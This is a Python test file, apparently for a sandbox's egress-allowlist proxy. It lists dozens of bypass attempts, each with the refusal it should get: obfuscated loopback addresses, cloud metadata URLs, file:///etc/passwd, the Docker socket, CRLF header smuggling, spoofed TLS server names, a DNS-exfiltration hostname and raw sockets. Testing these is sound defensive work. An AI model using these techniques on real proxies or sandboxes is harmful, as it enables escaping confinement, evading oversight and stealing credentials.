"""Attacks of code on an egress allowlist, each with what is said to its one door, if anything comes back.

In the code, `S` is the port of a server of the host's that must never be reached, on every address of the host; `T` is
the port of one that is listed as `localhost`, and must hear nothing but TLS that names it; `ask(target, *parts)` asks
the door for a tunnel and says these parts in it, `say(*parts)` says them to the door itself; both return all that came
back. `hello(name)` is the greeting of a TLS client.
"""

PRELUDE = """
import os, socket, ssl, struct
def say(*parts, wait=5):
    with socket.create_connection(('127.0.0.1', 3128), wait) as door:
        back = b''
        try:
            for number, part in enumerate(parts):
                door.sendall(part)
                if number < len(parts) - 1:
                    back += door.recv(65536)
            while more := door.recv(65536):
                back += more
        except OSError as exc:
            back += type(exc).__name__.encode()
    return back
def ask(target, *parts):
    return say(f'CONNECT {target} HTTP/1.1\\r\\nHost: {target}\\r\\n\\r\\n'.encode('latin-1'), *parts)
def get(url, *lines, host='pypi.org'):
    return say('\\r\\n'.join((f'GET {url} HTTP/1.1', f'Host: {host}', *lines, 'Connection: close', '', '')).encode())
def direct(family, kind, address, data=b'x'):
    try:
        with socket.socket(family, kind) as end:
            end.settimeout(2)
            end.connect(address)
            end.send(data)
            return b'sent'
    except OSError as exc:
        return type(exc).__name__.encode() + b' ' + str(exc).encode()
def hello(name):
    context, out = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT), ssl.MemoryBIO()
    context.check_hostname = False
    try:
        context.wrap_bio(ssl.MemoryBIO(), out, server_hostname=name).do_handshake()
    except ssl.SSLWantReadError:
        return out.read()
def records(data, size):
    message = data[5:]
    return b''.join(b'\\x16\\3\\1' + struct.pack('>H', len(part)) + part
                    for part in (message[at:at + size] for at in range(0, len(message), size)))
"""
OPEN = b"HTTP/1.1 200 Connection established\r\n\r\n"
ALERT = OPEN + bytes((21, 3, 3, 0, 2, 2, 112))
NOT_LISTED, MALFORMED, INSIDE = b"HTTP/1.1 403 ", b"HTTP/1.1 400 ", b"HTTP/1.1 403 localhost has a private"
NO_WAY = (b"OSError [Errno 101]", b"OSError [Errno 113]")  # Linux's, and gVisor's

ATTACKS: dict[str, tuple[str, bytes | tuple[bytes, ...]]] = {
    # names that are not on the list
    "a name that is not listed": ("ask('example.org:443')", NOT_LISTED),
    "a name below a listed one": ("ask('x.pypi.org:443')", NOT_LISTED),
    "the name above a listed one": ("ask('org:443')", NOT_LISTED),
    "a name that ends like a listed one": ("ask('evilpypi.org:443')", NOT_LISTED),
    "a name that begins like a listed one": ("ask('pypi.org.evil.example:443')", NOT_LISTED),
    "a listed name on another port": ("ask('pypi.org:22')", NOT_LISTED),
    "a listed name in plain HTTP": ("get('http://pypi.org/')", NOT_LISTED),
    "a listed name on its port without TLS": ("get('http://pypi.org:443/')", NOT_LISTED),
    "a name that looks like a listed one": ("ask('pyp\\xed.org:443')", MALFORMED),
    "the punycode of one": ("ask('xn--pyp-hoa.org:443')", NOT_LISTED),
    "credentials before the true host": ("ask(f'pypi.org@127.0.0.1:{S}')", MALFORMED),
    "a listed name and a path to another": ("ask(f'pypi.org:443/@127.0.0.1:{S}')", MALFORMED),
    "two ports": ("ask(f'pypi.org:443:{S}')", MALFORMED),
    "a percent escape in a name": ("ask('pypi.org%00.evil.example:443')", MALFORMED),
    "a zero byte in a name": ("ask('pypi.org\\0.evil.example:443')", MALFORMED),
    "a URL where an authority stands": ("ask('http://pypi.org:443')", MALFORMED),
    "data in the name of a lookup": ("ask('c2VjcmV0.evil.example:53')", NOT_LISTED),
    # addresses
    "the host's loopback": ("ask(f'127.0.0.1:{S}')", NOT_LISTED),
    "the host's loopback in IPv6": ("ask(f'[::1]:{S}')", NOT_LISTED),
    "the loopback mapped to IPv6": ("ask(f'[::ffff:127.0.0.1]:{S}')", NOT_LISTED),
    "the loopback through NAT64": ("ask(f'[64:ff9b::7f00:1]:{S}')", NOT_LISTED),
    "the loopback through 6to4": ("ask(f'[2002:7f00:1::]:{S}')", NOT_LISTED),
    "the unspecified address": ("ask(f'0.0.0.0:{S}')", NOT_LISTED),
    "the unspecified address in IPv6": ("ask(f'[::]:{S}')", NOT_LISTED),
    "a short address": ("ask(f'127.1:{S}')", MALFORMED),
    "an octal address": ("ask(f'0177.0.0.1:{S}')", MALFORMED),
    "a hexadecimal address": ("ask(f'0x7f000001:{S}')", MALFORMED),
    "a decimal address": ("ask(f'2130706433:{S}')", MALFORMED),
    "an address with a zone": ("ask(f'[fe80::1%25lo]:{S}')", MALFORMED),
    "the metadata service": ("get('http://169.254.169.254/latest/meta-data/')", NOT_LISTED),
    "the metadata service by name": ("get('http://metadata.google.internal/', 'Metadata-Flavor: Google')", NOT_LISTED),
    "the metadata service in IPv6": ("ask('[fd00:ec2::254]:80')", NOT_LISTED),
    "the engine's bridge": ("ask(f'172.17.0.1:{S}')", NOT_LISTED),
    "the raw address of a listed name": ("ask('203.0.113.80:443', hello('pypi.org'))", NOT_LISTED),
    "a name of the host's own": ("ask(f'localhost:{S}')", NOT_LISTED),
    "a plain request to the host": ("get(f'http://127.0.0.1:{S}/')", NOT_LISTED),
    # what is said in a tunnel that is open
    "a greeting that names another": ("ask(f'localhost:{T}', hello('evil.example'))", ALERT),
    "a greeting that names nobody": ("ask(f'localhost:{T}', hello(None))", ALERT),
    "a greeting that names an address": ("ask(f'localhost:{T}', hello('127.0.0.1'))", ALERT),
    "plain HTTP in a tunnel": ("ask(f'localhost:{T}', b'GET / HTTP/1.1\\r\\n\\r\\n')", ALERT),
    "a name in pieces of records": ("ask(f'localhost:{T}', records(hello('evil.example'), 3))", ALERT),
    "a second greeting in the same breath": (
        "ask(f'localhost:{T}', hello('localhost') + hello('evil.example'))",
        ALERT,
    ),
    "a greeting before the tunnel": (
        "say(f'CONNECT localhost:{T} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'.encode() + hello('evil.example'))",
        ALERT,
    ),
    "another protocol's greeting": ("ask(f'localhost:{T}', b'SSH-2.0-x\\r\\n')", ALERT),
    "another tunnel in the tunnel": (
        "ask(f'localhost:{T}', f'CONNECT 127.0.0.1:{S} HTTP/1.1\\r\\n\\r\\n'.encode())",
        ALERT,
    ),
    # what is said to the door
    "an origin's form and a Host of the code's": ("get('/', host=f'127.0.0.1:{S}')", MALFORMED),
    "a Host other than the target": ("get('http://example.org/', host='pypi.org')", NOT_LISTED),
    "https in absolute form": ("get(f'https://127.0.0.1:{S}/')", MALFORMED),
    "a file": ("get('file:///etc/passwd')", MALFORMED),
    "the engine's socket": ("get('http+unix://%2Fvar%2Frun%2Fdocker.sock/info')", MALFORMED),
    "a line smuggled into the target": ("ask(f'pypi.org:443 HTTP/1.1\\r\\nX: 127.0.0.1:{S}', b'')[:39]", OPEN),
    "a line smuggled by a bare newline": ("get(f'http://127.0.0.1:{S}/', 'X: a\\nHost: b')", MALFORMED),
    "a length and chunks": (
        "get(f'http://127.0.0.1:{S}/', 'Content-Length: 3', 'Transfer-Encoding: chunked')",
        MALFORMED,
    ),
    "SOCKS 5": ("say(b'\\5\\1\\0' + bytes(300))", MALFORMED),
    "HTTP/2": ("say(b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n')", b"HTTP/1.1 4"),
    "a name query": (
        "say(bytes.fromhex('001d00010100000100000000000003777777076578616d706c65000001000100') * 9)",
        MALFORMED,
    ),
    "frames of the channel behind the door": (
        "say(struct.pack('>II', 0, 5) + b'ready' + struct.pack('>II', 7, 3) * 99)",
        MALFORMED,
    ),
    "a head without end": ("say(b'CONNECT pypi.org:443 HTTP/1.1\\r\\n' + b'X: y\\r\\n' * 20000)", MALFORMED),
    "a proxy's password": ("get(f'http://127.0.0.1:{S}/', 'Proxy-Authorization: Basic YTpi')", NOT_LISTED),
    # past the door
    "a connection of its own": ("direct(socket.AF_INET, socket.SOCK_STREAM, ('1.1.1.1', 443))", NO_WAY),
    "a name query of its own": ("direct(socket.AF_INET, socket.SOCK_DGRAM, ('8.8.8.8', 53))", NO_WAY),
    "the metadata service itself": ("direct(socket.AF_INET, socket.SOCK_STREAM, ('169.254.169.254', 80))", NO_WAY),
    "the engine's bridge itself": ("direct(socket.AF_INET, socket.SOCK_STREAM, ('172.17.0.1', S))", NO_WAY),
    "the host's port on the loopback": (
        "direct(socket.AF_INET, socket.SOCK_STREAM, ('127.0.0.1', S))",
        b"ConnectionRefusedError",
    ),
    "IPv6 of its own": ("direct(socket.AF_INET6, socket.SOCK_STREAM, ('2606:4700::1111', 443))", NO_WAY),
    "a packet of its own making": (
        "direct(socket.AF_INET, socket.SOCK_RAW, ('1.1.1.1', 0))",
        b"PermissionError",
    ),
}
